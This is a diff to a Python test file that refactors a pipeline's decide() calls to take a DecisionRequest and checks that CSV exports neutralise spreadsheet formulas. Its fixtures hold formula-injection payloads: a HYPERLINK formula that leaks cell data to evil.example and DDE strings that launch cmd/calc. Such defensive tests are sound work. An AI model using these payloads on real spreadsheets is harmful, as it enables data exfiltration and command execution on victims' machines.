@@ -10,7 +10,7 @@ import re
 
 import polars as pl
 
-from atlas_pipeline.review.decisions import decide
+from atlas_pipeline.review.decisions import DecisionRequest, decide
 from atlas_pipeline_tests.support.juice_trial import CORRECT
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
@@ -28,15 +28,21 @@ def test_every_csv_opens_formulas_as_text_and_keeps_numbers(run, llm_server, ins
     decide(
         store,
         record,
-        "n_control",
-        "correct",
-        reviewer="@SUM(1+1)*cmd|' /C calc'!A0",
-        shown=shown,
-        value=45,
-        quote="+thirty",
-        note=CALC,
+        DecisionRequest(
+            "n_control",
+            "correct",
+            reviewer="@SUM(1+1)*cmd|' /C calc'!A0",
+            shown=shown,
+            value=45,
+            quote="+thirty",
+            note=CALC,
+        ),
     )
-    decide(store, record, "funding_source", "correct", reviewer="ana", shown=shown, value="-2+3+cmd|' /C calc'!A0")
+    decide(
+        store,
+        record,
+        DecisionRequest("funding_source", "correct", reviewer="ana", shown=shown, value="-2+3+cmd|' /C calc'!A0"),
+    )
     assert (
         run.defs.resolve_job_def("review_job").execute_in_process(partition_key=record.key, instance=instance).success
     )
